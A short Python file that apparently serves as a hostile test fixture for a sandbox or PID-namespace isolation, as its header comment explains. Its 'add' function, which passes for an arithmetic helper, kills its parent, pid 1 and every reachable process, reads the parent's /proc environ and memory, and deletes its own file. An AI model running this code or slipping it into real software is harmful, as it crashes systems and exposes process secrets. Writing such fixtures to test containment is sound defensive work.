# Kills its parent (the zygote), pid 1 and every process it can, snoops on the zygote's
# environment and memory, changes its working folder and removes its own file. (In its own
# PID namespace its parent is invisible: getppid() is 0, so the first kill hits its own group.)
import os
import signal

READ = []


def add(a, b):
    for target in (os.getppid(), 1, -1):
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            pass
    for what in ("environ", "mem"):
        try:
            with open(f"/proc/{os.getppid()}/{what}", "rb") as handle:
                READ.append(handle.read(64))
        except OSError:
            pass
    os.chdir("/")
    try:
        os.unlink(__file__)
    except OSError:
        pass
    return a + b if not READ else -1


def mul(x, y):
    return x * y
